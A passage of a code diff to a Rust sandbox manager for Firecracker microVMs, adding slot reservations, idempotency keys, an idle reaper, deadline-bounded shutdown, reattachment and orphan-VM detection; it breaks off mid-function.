@@ -1,13 +1,27 @@
 //! Sandbox manager for lifecycle management of multiple sandboxes.
 
-use crate::config::SandboxConfig;
+use crate::backend::{FirecrackerBackend, VmBackend};
+use crate::config::{SandboxConfig, SandboxConfigBuilder};
 use crate::error::CoreError;
-use crate::sandbox::{Sandbox, SandboxId};
+use crate::filter::CommandFilter;
+use crate::sandbox::{Sandbox, SandboxId, SandboxState, SnapshotHandle};
+use chrono::{DateTime, Utc};
+use futures::stream::{self, StreamExt};
 use std::collections::HashMap;
-use std::path::PathBuf;
-use std::sync::atomic::{AtomicU32, Ordering};
-use std::sync::Arc;
+use std::future::Future;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
 use tokio::sync::RwLock;
+use tokio::task::{JoinHandle, JoinSet};
+use tokio::time::Instant;
+
+/// How long one sandbox has to answer a [`SandboxManager::ping_all`] ping.
+const HEALTH_CHECK_TIMEOUT: Duration = Duration::from_secs(2);
+
+/// Sandboxes pinged at once by [`SandboxManager::ping_all`].
+const HEALTH_CHECK_CONCURRENCY: usize = 16;
 
 /// Configuration for SandboxManager.
 #[derive(Debug, Clone)]
@@ -22,6 +36,18 @@ pub struct ManagerConfig {
     pub chroot_path: PathBuf,
     /// Maximum number of concurrent sandboxes (default: 100, 0 = unlimited).
     pub max_sandboxes: usize,
+    /// Directory for hibernated sandbox snapshots
+    /// (default: `/var/lib/bouvet/snapshots`).
+    pub snapshot_dir: PathBuf,
+    /// Commands and code the manager refuses to send to a guest
+    /// (default: none). Best-effort; see [`CommandFilter`].
+    pub command_filter: Option<CommandFilter>,
+    /// Idle time after which [`SandboxManager::start_reaper`]'s task
+    /// destroys a sandbox whose config sets no `idle_ttl` of its own
+    /// (default: none, never).
+    pub default_ttl: Option<Duration>,
+    /// How often the reaper looks for idle sandboxes (default: 30s).
+    pub cleanup_interval: Duration,
 }
 
 impl ManagerConfig {
@@ -38,6 +64,154 @@ impl ManagerConfig {
             firecracker_path: firecracker_path.into(),
             chroot_path: chroot_path.into(),
             max_sandboxes: 100,
+            snapshot_dir: PathBuf::from("/var/lib/bouvet/snapshots"),
+            command_filter: None,
+            default_ttl: None,
+            cleanup_interval: Duration::from_secs(30),
+        }
+    }
+
+    /// Start a sandbox config with this manager's kernel, rootfs and
+    /// chroot paths filled in.
+    ///
+    /// Only resource overrides are left to set:
+    ///
+    /// ```ignore
+    /// let config = manager_config.sandbox_config_builder().memory_mib(512).build()?;
+    /// ```
+    pub fn sandbox_config_builder(&self) -> SandboxConfigBuilder {
+        SandboxConfig::builder()
+            .kernel(&self.kernel_path)
+            .rootfs(&self.rootfs_path)
+            .chroot_path(&self.chroot_path)
+    }
+}
+
+/// Resources committed to running sandboxes, summed from their configs.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct ResourceTotals {
+    /// Number of sandboxes.
+    pub count: usize,
+    /// Sum of configured vCPUs.
+    pub total_vcpus: u64,
+    /// Sum of configured memory in MiB.
+    pub total_memory_mib: u64,
+}
+
+impl<'a> FromIterator<&'a SandboxConfig> for ResourceTotals {
+    fn from_iter<I: IntoIterator<Item = &'a SandboxConfig>>(configs: I) -> Self {
+        configs
+            .into_iter()
+            .fold(Self::default(), |totals, config| Self {
+                count: totals.count + 1,
+                total_vcpus: totals.total_vcpus + u64::from(config.vcpu_count),
+                total_memory_mib: totals.total_memory_mib + u64::from(config.memory_mib),
+            })
+    }
+}
+
+/// Details of one sandbox, returned by [`SandboxManager::info`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SandboxInfoData {
+    /// Sandbox ID.
+    pub id: SandboxId,
+    /// Current lifecycle state.
+    pub state: SandboxState,
+    /// When the sandbox was created.
+    pub created_at: DateTime<Utc>,
+    /// Time since creation.
+    pub uptime: Duration,
+    /// Configured vCPU count.
+    pub vcpu_count: u8,
+    /// Configured memory in MiB.
+    pub memory_mib: u32,
+    /// Labels given at creation.
+    pub labels: HashMap<String, String>,
+}
+
+impl From<&Sandbox> for SandboxInfoData {
+    fn from(sandbox: &Sandbox) -> Self {
+        let config = sandbox.config();
+        Self {
+            id: sandbox.id(),
+            state: sandbox.state(),
+            created_at: sandbox.created_at(),
+            uptime: (Utc::now() - sandbox.created_at())
+                .to_std()
+                .unwrap_or_default(),
+            vcpu_count: config.vcpu_count,
+            memory_mib: config.memory_mib,
+            labels: config.labels.clone(),
+        }
+    }
+}
+
+/// A VM directory in `chroot_path` that no registered sandbox owns, found
+/// by [`SandboxManager::find_orphans`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct OrphanVm {
+    /// ID the VM was created with (its directory name).
+    pub id: SandboxId,
+    /// Firecracker API socket in the VM directory.
+    pub socket_path: PathBuf,
+    /// Firecracker process serving the socket, if it is still running.
+    pub pid: Option<u32>,
+}
+
+/// Sandbox slots claimed with [`SandboxManager::reserve`].
+///
+/// Reserved slots count against `max_sandboxes` until used by
+/// [`SandboxManager::create_reserved`] or released. Slots still unused when
+/// the reservation is dropped are released.
+#[derive(Debug)]
+#[must_use = "dropping a reservation releases its slots"]
+pub struct Reservation {
+    /// The manager's count of reserved slots.
+    reserved: Arc<Mutex<usize>>,
+    /// Slots of this reservation not yet taken by a create.
+    remaining: AtomicUsize,
+}
+
+impl Reservation {
+    /// Number of slots not yet used.
+    pub fn remaining(&self) -> usize {
+        self.remaining.load(Ordering::SeqCst)
+    }
+
+    /// Take a slot for a create, or `None` if none are left.
+    fn take(&self) -> Option<ReservedSlot<'_>> {
+        self.remaining
+            .fetch_update(Ordering::SeqCst, Ordering::SeqCst, |n| n.checked_sub(1))
+            .ok()?;
+        Some(ReservedSlot {
+            reservation: self,
+            used: false,
+        })
+    }
+}
+
+/// A slot taken from a [`Reservation`] by a create in progress.
+///
+/// Goes back to the reservation if the create fails or is cancelled.
+struct ReservedSlot<'a> {
+    reservation: &'a Reservation,
+    used: bool,
+}
+
+impl Drop for ReservedSlot<'_> {
+    fn drop(&mut self) {
+        if !self.used {
+            self.reservation.remaining.fetch_add(1, Ordering::SeqCst);
+        }
+    }
+}
+
+impl Drop for Reservation {
+    fn drop(&mut self) {
+        let unused = *self.remaining.get_mut();
+        if unused > 0 {
+            *self.reserved.lock().unwrap() -= unused;
+            tracing::debug!(unused, "Released reserved sandbox slots");
         }
     }
 }
@@ -55,14 +229,30 @@ impl ManagerConfig {
 /// while creation and destruction require exclusive access to the registry.
 pub struct SandboxManager {
     sandboxes: Arc<RwLock<HashMap<SandboxId, Sandbox>>>,
+    /// Client-supplied external keys (e.g. idempotency keys) mapped to sandbox IDs.
+    keys: Arc<RwLock<HashMap<String, SandboxId>>>,
+    /// Sandboxes snapshotted to disk with their VMs destroyed.
+    hibernated: Arc<RwLock<HashMap<SandboxId, SnapshotHandle>>>,
     config: ManagerConfig,
     /// Counter for assigning unique vsock CIDs (starts at 3, the minimum valid CID).
     cid_counter: AtomicU32,
+    /// Slots held by outstanding reservations, counted against `max_sandboxes`.
+    reserved: Arc<Mutex<usize>>,
+    /// Creates the VMs for new sandboxes.
+    backend: Arc<dyn VmBackend>,
+    /// Idle sandbox reaper, once started; aborted when the manager drops.
+    reaper: Mutex<Option<JoinHandle<()>>>,
 }
 
 impl SandboxManager {
     /// Create a new sandbox manager.
     pub fn new(config: ManagerConfig) -> Self {
+        Self::with_backend(config, Arc::new(FirecrackerBackend))
+    }
+
+    /// Create a sandbox manager whose sandboxes get their VMs from
+    /// `backend`, e.g. a [`MockBackend`](crate::MockBackend) in tests.
+    pub fn with_backend(config: ManagerConfig, backend: Arc<dyn VmBackend>) -> Self {
         tracing::info!(
             kernel_path = %config.kernel_path.display(),
             rootfs_path = %config.rootfs_path.display(),
@@ -71,9 +261,98 @@ impl SandboxManager {
         );
         Self {
             sandboxes: Arc::new(RwLock::new(HashMap::new())),
+            keys: Arc::new(RwLock::new(HashMap::new())),
+            hibernated: Arc::new(RwLock::new(HashMap::new())),
             config,
             cid_counter: AtomicU32::new(3), // Start at 3 (minimum valid CID)
+            reserved: Arc::new(Mutex::new(0)),
+            backend,
+            reaper: Mutex::new(None),
+        }
+    }
+
+    /// Start the background task that destroys idle sandboxes.
+    ///
+    /// Every `cleanup_interval` it reaps, as [`reap_idle`](Self::reap_idle)
+    /// does, the sandboxes idle longer than their TTL. The task stops when
+    /// the manager is dropped.
+    pub fn start_reaper(&self) {
+        let mut reaper = self.reaper.lock().unwrap();
+        if reaper.is_some() {
+            tracing::warn!("Sandbox reaper already started");
+            return;
+        }
+
+        let sandboxes = Arc::clone(&self.sandboxes);
+        let keys = Arc::clone(&self.keys);
+        let default_ttl = self.config.default_ttl;
+        let interval = self.config.cleanup_interval;
+        *reaper = Some(tokio::spawn(async move {
+            let mut ticker = tokio::time::interval(interval);
+            ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
+            loop {
+                ticker.tick().await;
+                Self::reap(&sandboxes, &keys, default_ttl).await;
+            }
+        }));
+        tracing::info!(
+            default_ttl_secs = self.config.default_ttl.map(|ttl| ttl.as_secs()),
+            interval_ms = interval.as_millis() as u64,
+            "Sandbox reaper started"
+        );
+    }
+
+    /// Destroy the sandboxes idle for longer than their TTL: the config's
+    /// `idle_ttl`, or else the manager's `default_ttl`.
+    ///
+    /// A sandbox is idle from the start of its last operation, and one
+    /// with an operation still running is never reaped.
+    ///
+    /// # Returns
+    ///
+    /// The IDs of the reaped sandboxes.
+    pub async fn reap_idle(&self) -> Vec<SandboxId> {
+        Self::reap(&self.sandboxes, &self.keys, self.config.default_ttl).await
+    }
+
+    async fn reap(
+        sandboxes: &RwLock<HashMap<SandboxId, Sandbox>>,
+        keys: &RwLock<HashMap<String, SandboxId>>,
+        default_ttl: Option<Duration>,
+    ) -> Vec<SandboxId> {
+        let expired: Vec<Sandbox> = {
+            let mut sandboxes = sandboxes.write().await;
+            let ids: Vec<SandboxId> = sandboxes
+                .values()
+                .filter(|sandbox| {
+                    sandbox
+                        .config()
+                        .idle_ttl
+                        .or(default_ttl)
+                        .is_some_and(|ttl| !sandbox.is_busy() && sandbox.idle_for() >= ttl)
+                })
+                .map(Sandbox::id)
+                .collect();
+            ids.iter().filter_map(|id| sandboxes.remove(id)).collect()
+        };
+        if expired.is_empty() {
+            return Vec::new();
+        }
+
+        let ids: Vec<SandboxId> = expired.iter().map(Sandbox::id).collect();
+        keys.write().await.retain(|_, bound| !ids.contains(bound));
+        for sandbox in expired {
+            let id = sandbox.id();
+            tracing::info!(
+                sandbox_id = %id,
+                idle_secs = sandbox.idle_for().as_secs(),
+                "Reaping idle sandbox"
+            );
+            if let Err(e) = sandbox.destroy().await {
+                tracing::warn!(sandbox_id = %id, error = %e, "Failed to destroy idle sandbox");
+            }
         }
+        ids
     }
 
     /// Get the manager configuration.
@@ -99,7 +378,7 @@ impl SandboxManager {
 
         // Check sandbox limit
         if self.config.max_sandboxes > 0 {
-            let current = self.sandboxes.read().await.len();
+            let current = self.sandboxes.read().await.len() + self.reserved_slots();
             if current >= self.config.max_sandboxes {
                 tracing::warn!(
                     current,
@@ -123,7 +402,7 @@ impl SandboxManager {
         config.vsock_cid = self.cid_counter.fetch_add(1, Ordering::Relaxed);
         tracing::debug!(vsock_cid = config.vsock_cid, "Assigned CID");
 
-        let sandbox = Sandbox::create(config).await?;
+        let sandbox = Sandbox::create(config, self.backend.as_ref()).await?;
         let id = sandbox.id();
 
         let mut sandboxes = self.sandboxes.write().await;
@@ -135,15 +414,132 @@ impl SandboxManager {
         Ok(id)
     }
 
+    /// Claim `n` sandbox slots for later [`create_reserved`](Self::create_reserved)
+    /// calls.
+    ///
+    /// The slots count against `max_sandboxes` from now on, so other
+    /// creates can't take them while a batch is being created. Slots the
+    /// reservation doesn't use are released when it is dropped.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error, reserving nothing, if fewer than `n` slots are
+    /// free.
+    pub async fn reserve(&self, n: usize) -> Result<Reservation, CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let mut reserved = self.reserved.lock().unwrap();
+        if self.config.max_sandboxes > 0 {
+            let free = self
+                .config
+                .max_sandboxes
+                .saturating_sub(sandboxes.len() + *reserved);
+            if n > free {
+                tracing::warn!(
+                    requested = n,
+                    free,
+                    max = self.config.max_sandboxes,
+                    "Not enough free slots to reserve"
+                );
+                return Err(CoreError::Connection(format!(
+                    "max sandbox limit reached ({}): {} slots requested, {} free",
+                    self.config.max_sandboxes, n, free
+                )));
+            }
+        }
+        *reserved += n;
+        tracing::debug!(
+            reserved = n,
+            total_reserved = *reserved,
+            "Reserved sandbox slots"
+        );
+        Ok(Reservation {
+            reserved: Arc::clone(&self.reserved),
+            remaining: AtomicUsize::new(n),
+        })
+    }
+
+    /// Create a sandbox in a slot of `reservation`.
+    ///
+    /// Uses up one slot on success; a failed create leaves it in the
+    /// reservation for a retry. Creates from one reservation may run
+    /// concurrently.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`CoreError::ReservationExhausted`] if the reservation has no
+    /// slots left or was made by another manager, or an error if sandbox
+    /// creation fails.
+    pub async fn create_reserved(
+        &self,
+        reservation: &Reservation,
+        config: SandboxConfig,
+    ) -> Result<SandboxId, CoreError> {
+        if !Arc::ptr_eq(&reservation.reserved, &self.reserved) {
+            return Err(CoreError::ReservationExhausted);
+        }
+        let mut slot = reservation.take().ok_or(CoreError::ReservationExhausted)?;
+        tracing::debug!(
+            remaining = reservation.remaining(),
+            "Creating sandbox from reservation"
+        );
+
+        let mut config = config;
+        config.vsock_cid = self.cid_counter.fetch_add(1, Ordering::Relaxed);
+        let sandbox = Sandbox::create(config, self.backend.as_ref()).await?;
+        let id = sandbox.id();
+
+        let mut sandboxes = self.sandboxes.write().await;
+        sandboxes.insert(id, sandbox);
+        // The slot now counts as a registered sandbox instead
+        *self.reserved.lock().unwrap() -= 1;
+        slot.used = true;
+        let count = sandboxes.len();
+        drop(sandboxes);
+
+        tracing::info!(sandbox_id = %id, total_sandboxes = count, "Sandbox registered from reservation");
+        Ok(id)
+    }
+
+    /// Number of slots held by outstanding reservations.
+    fn reserved_slots(&self) -> usize {
+        *self.reserved.lock().unwrap()
+    }
+
+    /// Create a sandbox bound to a client-supplied external key.
+    ///
+    /// This is idempotent: if a live sandbox is already bound to `key`, its ID
+    /// is returned and no new sandbox is created.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if sandbox creation fails.
+    pub async fn create_with_key(
+        &self,
+        key: &str,
+        config: SandboxConfig,
+    ) -> Result<SandboxId, CoreError> {
+        if let Some(id) = self.find_by_key(key).await {
+            tracing::debug!(sandbox_id = %id, key = %key, "Key already bound, reusing sandbox");
+            return Ok(id);
+        }
+
+        let id = self.create(config).await?;
+        if let Err(e) = self.bind_key(key, id).await {
+            // Lost a race with a concurrent create for the same key
+            tracing::debug!(sandbox_id = %id, key = %key, error = %e, "Key bound concurrently, discarding new sandbox");
+            let _ = self.destroy(id).await;
+            return self.find_by_key(key).await.ok_or(e);
+        }
+        Ok(id)
+    }
+
     /// Create a sandbox with default configuration.
     ///
-    /// Uses the kernel and rootfs paths from the manager configuration.
+    /// Uses the kernel, rootfs and chroot paths from the manager
+    /// configuration.
     pub async fn create_default(&self) -> Result<SandboxId, CoreError> {
         tracing::debug!("Creating sandbox with default configuration");
-        let config = SandboxConfig::builder()
-            .kernel(&self.config.kernel_path)
-            .rootfs(&self.config.rootfs_path)
-            .build()?;
+        let config = self.config.sandbox_config_builder().build()?;
         self.create(config).await
     }
 
@@ -169,7 +565,7 @@ impl SandboxManager {
 
         // Check sandbox limit
         if self.config.max_sandboxes > 0 {
-            let current = self.sandboxes.read().await.len();
+            let current = self.sandboxes.read().await.len() + self.reserved_slots();
             if current >= self.config.max_sandboxes {
                 tracing::warn!(
                     sandbox_id = %sandbox.id(),
@@ -187,6 +583,8 @@ impl SandboxManager {
             }
         }
 
+        // Time spent waiting in a pool doesn't count as idle
+        sandbox.mark_used();
         let id = sandbox.id();
         let mut sandboxes = self.sandboxes.write().await;
         sandboxes.insert(id, sandbox);
@@ -197,6 +595,153 @@ impl SandboxManager {
         Ok(id)
     }
 
+    /// Register an externally-created sandbox under a client-supplied key.
+    ///
+    /// Like [`register`](Self::register), but also binds `key` to the
+    /// sandbox so it can later be found with [`find_by_key`](Self::find_by_key)
+    /// or destroyed with [`destroy_by_key`](Self::destroy_by_key).
+    ///
+    /// This is idempotent like [`create_with_key`](Self::create_with_key):
+    /// if the key is already bound to a live sandbox (e.g. by a concurrent
+    /// create for the same key), `sandbox` is destroyed and the bound
+    /// sandbox's ID is returned.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error (with the sandbox) if the max_sandboxes limit is
+    /// reached.
+    pub async fn register_with_key(
+        &self,
+        sandbox: Sandbox,
+        key: &str,
+    ) -> Result<SandboxId, (CoreError, Sandbox)> {
+        tracing::debug!(sandbox_id = %sandbox.id(), key = %key, "Registering external sandbox with key");
+
+        let mut sandboxes = self.sandboxes.write().await;
+        let mut keys = self.keys.write().await;
+
+        if let Some(existing) = keys.get(key).copied() {
+            if sandboxes.contains_key(&existing) {
+                drop(keys);
+                drop(sandboxes);
+                tracing::debug!(sandbox_id = %sandbox.id(), key = %key, existing = %existing, "Key bound concurrently, discarding new sandbox");
+                if let Err(e) = sandbox.destroy().await {
+                    tracing::warn!(key = %key, error = %e, "Failed to destroy discarded sandbox");
+                }
+                return Ok(existing);
+            }
+        }
+
+        // Check sandbox limit
+        let current = sandboxes.len() + self.reserved_slots();
+        if self.config.max_sandboxes > 0 && current >= self.config.max_sandboxes {
+            tracing::warn!(
+                sandbox_id = %sandbox.id(),
+                current,
+                max = self.config.max_sandboxes,
+                "Max sandbox limit reached, rejecting registration"
+            );
+            return Err((
+                CoreError::Connection(format!(
+                    "max sandbox limit reached ({})",
+                    self.config.max_sandboxes
+                )),
+                sandbox,
+            ));
+        }
+
+        sandbox.mark_used();
+        let id = sandbox.id();
+        sandboxes.insert(id, sandbox);
+        keys.insert(key.to_string(), id);
+        let count = sandboxes.len();
+        drop(keys);
+        drop(sandboxes);
+
+        tracing::info!(sandbox_id = %id, key = %key, total_sandboxes = count, "Sandbox registered with key");
+        Ok(id)
+    }
+
+    /// Look up the sandbox bound to a client-supplied key.
+    ///
+    /// Returns `None` if the key is unknown or its sandbox no longer exists.
+    pub async fn find_by_key(&self, key: &str) -> Option<SandboxId> {
+        let id = self.keys.read().await.get(key).copied()?;
+        if self.exists(id).await {
+            Some(id)
+        } else {
+            None
+        }
+    }
+
+    /// Bind a key to a sandbox, failing if it's bound to another live sandbox.
+    async fn bind_key(&self, key: &str, id: SandboxId) -> Result<(), CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let mut keys = self.keys.write().await;
+        if let Some(existing) = keys.get(key) {
+            if *existing != id && sandboxes.contains_key(existing) {
+                return Err(CoreError::DuplicateKey(key.to_string()));
+            }
+        }
+        keys.insert(key.to_string(), id);
+        tracing::debug!(sandbox_id = %id, key = %key, "Key bound to sandbox");
+        Ok(())
+    }
+
+    /// Wait until a sandbox reaches `target` state.
+    ///
+    /// Returns as soon as the sandbox is in `target`, which may be
+    /// immediately. Waiting for anything but
+    /// [`Destroyed`](SandboxState::Destroyed) fails early if the sandbox
+    /// is destroyed first.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`CoreError::NotFound`] if no sandbox has this ID,
+    /// [`CoreError::InvalidState`] if it was destroyed while waiting, or
+    /// [`CoreError::StateTimeout`] if `timeout` passes first.
+    pub async fn wait_for_state(
+        &self,
+        id: SandboxId,
+        target: SandboxState,
+        timeout: Duration,
+    ) -> Result<(), CoreError> {
+        let mut state = self
+            .with_sandbox(id, |sandbox| sandbox.watch_state())
+            .await?;
+        tracing::debug!(sandbox_id = %id, target = %target, "Waiting for sandbox state");
+
+        let reached = tokio::time::timeout(timeout, async {
+            match state
+                .wait_for(|s| *s == target || *s == SandboxState::Destroyed)
+                .await
+            {
+                Ok(actual) => *actual,
+                // Sender dropped: the sandbox is gone, and its last state was Destroyed
+                Err(_) => SandboxState::Destroyed,
+            }
+        })
+        .await;
+        let actual = match reached {
+            Ok(actual) => actual,
+            Err(_) => {
+                return Err(CoreError::StateTimeout {
+                    expected: target,
+                    actual: *state.borrow(),
+                    timeout,
+                })
+            }
+        };
+        if actual == target {
+            Ok(())
+        } else {
+            Err(CoreError::InvalidState {
+                expected: target.to_string(),
+                actual: actual.to_string(),
+            })
+        }
+    }
+
     /// Execute a synchronous operation on a sandbox.
     ///
     /// # Arguments
@@ -256,6 +801,11 @@ impl SandboxManager {
     /// This removes the sandbox from the registry and releases all resources.
     pub async fn destroy(&self, id: SandboxId) -> Result<(), CoreError> {
         tracing::debug!(sandbox_id = %id, "Destroying sandbox");
+        // Operations hold the read lock while they run; cancel them first
+        // so the write lock isn't stuck behind a long command
+        if let Some(sandbox) = self.sandboxes.read().await.get(&id) {
+            sandbox.cancel_operations();
+        }
         let sandbox = {
             let mut sandboxes = self.sandboxes.write().await;
             match sandboxes.remove(&id) {
@@ -266,18 +816,48 @@ impl SandboxManager {
                 }
             }
         };
+        self.keys.write().await.retain(|_, bound| *bound != id);
         sandbox.destroy().await
     }
 
+    /// Destroy the sandbox bound to a client-supplied key.
+    ///
+    /// The key mapping is removed even if the sandbox no longer exists.
+    ///
+    /// # Errors
+    ///
+    /// Returns `KeyNotFound` if no sandbox was ever bound to the key.
+    pub async fn destroy_by_key(&self, key: &str) -> Result<(), CoreError> {
+        tracing::debug!(key = %key, "Destroying sandbox by key");
+        let id = match self.keys.write().await.remove(key) {
+            Some(id) => id,
+            None => {
+                tracing::warn!(key = %key, "Key not found for destruction");
+                return Err(CoreError::KeyNotFound(key.to_string()));
+            }
+        };
+        self.destroy(id).await
+    }
+
+    /// Cancel the operations of every sandbox, so a following write lock
+    /// isn't held up by them.
+    async fn cancel_all(&self) {
+        for sandbox in self.sandboxes.read().await.values() {
+            sandbox.cancel_operations();
+        }
+    }
+
     /// Destroy all sandboxes.
     ///
     /// This is useful for cleanup during shutdown. Errors during individual
     /// sandbox destruction are logged but do not stop the process.
     pub async fn destroy_all(&self) -> Result<(), CoreError> {
+        self.cancel_all().await;
         let sandboxes = {
             let mut guard = self.sandboxes.write().await;
             std::mem::take(&mut *guard)
         };
+        self.keys.write().await.clear();
 
         let count = sandboxes.len();
         tracing::info!(count = count, "Destroying all sandboxes");
@@ -291,64 +871,657 @@ impl SandboxManager {
         Ok(())
     }
 
-    /// List all sandbox IDs.
-    pub async fn list(&self) -> Vec<SandboxId> {
-        let sandboxes = self.sandboxes.read().await;
-        sandboxes.keys().copied().collect()
-    }
+    /// Destroy all sandboxes, force-killing any still alive after `timeout`.
+    ///
+    /// Sandboxes are destroyed concurrently. When the deadline passes, the
+    /// remaining destroys are abandoned, their Firecracker processes are
+    /// killed with SIGKILL and their sandbox directories removed. The
+    /// registry is cleared either way, which bounds shutdown time (e.g.
+    /// within a Kubernetes termination grace period).
+    ///
+    /// # Returns
+    ///
+    /// The IDs of the sandboxes that had to be force-killed.
+    pub async fn destroy_all_within(&self, timeout: Duration) -> Result<Vec<SandboxId>, CoreError> {
+        let deadline = Instant::now() + timeout;
+        self.cancel_all().await;
+        let sandboxes = {
+            let mut guard = self.sandboxes.write().await;
+            std::mem::take(&mut *guard)
+        };
+        self.keys.write().await.clear();
 
-    /// Get the number of active sandboxes.
-    pub async fn count(&self) -> usize {
-        let sandboxes = self.sandboxes.read().await;
-        sandboxes.len()
-    }
+        tracing::info!(
+            count = sandboxes.len(),
+            timeout_ms = timeout.as_millis() as u64,
+            "Destroying all sandboxes with deadline"
+        );
 
-    // =========================================================================
-    // Direct Sandbox Operations
-    // =========================================================================
-    // These methods avoid the lifetime issues of with_sandbox_async by performing
-    // the operation directly within the lock scope.
+        let pids: HashMap<SandboxId, Option<u32>> = sandboxes
+            .iter()
+            .map(|(id, sandbox)| (*id, sandbox.vm_pid()))
+            .collect();
+        let work = sandboxes
+            .into_iter()
+            .map(|(id, sandbox)| (id, sandbox.destroy()))
+            .collect();
 
-    /// Execute a shell command in a sandbox.
-    ///
-    /// This is a convenience method that avoids lifetime issues with closures.
-    pub async fn execute(
-        &self,
-        id: SandboxId,
-        command: &str,
-    ) -> Result<crate::ExecResult, CoreError> {
-        tracing::debug!(sandbox_id = %id, cmd = %command, "Manager: execute");
-        let sandboxes = self.sandboxes.read().await;
-        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
-        sandbox.execute(command).await
+        let unfinished = destroy_until(work, deadline).await;
+        for id in &unfinished {
+            match pids.get(id).copied().flatten() {
+                Some(pid) => match bouvet_vm::kill_process(pid) {
+                    Ok(()) => {
+                        tracing::warn!(sandbox_id = %id, pid, "Force-killed sandbox after deadline")
+                    }
+                    Err(e) => {
+                        tracing::error!(sandbox_id = %id, pid, error = %e, "Failed to force-kill sandbox")
+                    }
+                },
+                None => {
+                    tracing::error!(sandbox_id = %id, "Cannot force-kill sandbox: unknown firecracker pid")
+                }
+            }
+
+            let sandbox_dir = self.config.chroot_path.join(id.to_string());
+            if let Err(e) = tokio::fs::remove_dir_all(&sandbox_dir).await {
+                tracing::debug!(sandbox_id = %id, error = %e, "Failed to remove sandbox directory");
+            }
+        }
+
+        if !unfinished.is_empty() {
+            tracing::warn!(
+                count = unfinished.len(),
+                ids = ?unfinished.iter().map(|id| id.to_string()).collect::<Vec<_>>(),
+                "Sandboxes force-killed at shutdown deadline"
+            );
+        }
+        Ok(unfinished)
     }
 
-    /// Execute code in a specific language in a sandbox.
+    /// Reconnect to VMs left running by a previous host process.
     ///
-    /// Supported languages: python, python3, node, javascript, bash, sh
-    pub async fn execute_code(
-        &self,
-        id: SandboxId,
-        language: &str,
-        code: &str,
-    ) -> Result<crate::ExecResult, CoreError> {
-        tracing::debug!(sandbox_id = %id, lang = %language, code_len = code.len(), "Manager: execute_code");
-        let sandboxes = self.sandboxes.read().await;
-        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
-        sandbox.execute_code(language, code).await
-    }
+    /// Scans `chroot_path` for VM directories that still have a Firecracker
+    /// API socket, attaches to each VM and reconnects its agent. Sandboxes
+    /// that are already registered, and VMs owned by another host process
+    /// that is still running, are skipped. VMs whose Firecracker process
+    /// or agent is gone are logged and left in place.
+    ///
+    /// Reattached sandboxes use the manager's default kernel and rootfs
+    /// paths and the default resource settings, since the original
+    /// `SandboxConfig` is not persisted.
+    ///
+    /// # Returns
+    ///
+    /// The IDs of the reattached sandboxes.
+    pub async fn reattach_all(&self) -> Result<Vec<SandboxId>, CoreError> {
+        let chroot = self.config.chroot_path.clone();
+        let candidates = tokio::task::spawn_blocking(move || scan_vm_dirs(&chroot))
+            .await
+            .map_err(|e| CoreError::Connection(format!("VM directory scan failed: {e}")))??;
+        tracing::info!(
+            chroot = %self.config.chroot_path.display(),
+            candidates = candidates.len(),
+            "Reattaching surviving sandboxes"
+        );
 
-    /// Read a file from a sandbox.
-    pub async fn read_file(&self, id: SandboxId, path: &str) -> Result<String, CoreError> {
-        tracing::debug!(sandbox_id = %id, path = %path, "Manager: read_file");
-        let sandboxes = self.sandboxes.read().await;
-        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
-        sandbox.read_file(path).await
-    }
+        let mut reattached = Vec::new();
+        for id in candidates {
+            if self.exists(id).await {
+                tracing::trace!(sandbox_id = %id, "Sandbox already registered, skipping");
+                continue;
+            }
+            if let Some(pid) =
+                crate::owner::live_owner(&self.config.chroot_path.join(id.to_string()))
+            {
+                tracing::debug!(sandbox_id = %id, owner_pid = pid, "VM owned by another live process, skipping");
+                continue;
+            }
 
-    /// Write a file to a sandbox.
-    pub async fn write_file(
-        &self,
+            let mut config = SandboxConfig::builder()
+                .kernel(&self.config.kernel_path)
+                .rootfs(&self.config.rootfs_path)
+                .chroot_path(&self.config.chroot_path)
+                .build()?;
+            config.vsock_cid = self.cid_counter.fetch_add(1, Ordering::Relaxed);
+
+            let sandbox = match Sandbox::attach(id, config).await {
+                Ok(sandbox) => sandbox,
+                Err(e) => {
+                    tracing::warn!(sandbox_id = %id, error = %e, "Failed to reattach sandbox");
+                    continue;
+                }
+            };
+
+            match self.register(sandbox).await {
+                Ok(id) => reattached.push(id),
+                Err((e, _sandbox)) => {
+                    // Dropping an attached sandbox leaves its VM running
+                    tracing::warn!(sandbox_id = %id, error = %e, "Failed to register reattached sandbox");
+                }
+            }
+        }
+
+        tracing::info!(count = reattached.len(), "Reattach complete");
+        Ok(reattached)
+    }
+
+    /// Find VMs in `chroot_path` that no registered sandbox owns.
+    ///
+    /// These are usually left behind by a host process that crashed
+    /// without destroying its sandboxes. VMs whose Firecracker process is a
+    /// child of this process, such as warm-pool sandboxes or creates still
+    /// in flight, are not orphans, nor are VMs whose directory is tagged
+    /// with another host process that is still running, as when several
+    /// servers share one chroot. Nothing is changed; see
+    /// [`cleanup_orphans`](Self::cleanup_orphans).
+    ///
+    /// # Returns
+    ///
+    /// The orphaned VMs, ordered by ID.
+    pub async fn find_orphans(&self) -> Result<Vec<OrphanVm>, CoreError> {
+        let chroot = self.config.chroot_path.clone();
+        let candidates = tokio::task::spawn_blocking(move || scan_vm_dirs(&chroot))
+            .await
+            .map_err(|e| CoreError::Connection(format!("VM directory scan failed: {e}")))??;
+        let candidates: Vec<SandboxId> = {
+            let sandboxes = self.sandboxes.read().await;
+            candidates
+                .into_iter()
+                .filter(|id| !sandboxes.contains_key(id))
+                .collect()
+        };
+
+        let mut orphans = Vec::new();
+        for id in candidates {
+            let vm_dir = self.config.chroot_path.join(id.to_string());
+            if let Some(owner) = crate::owner::live_owner(&vm_dir) {
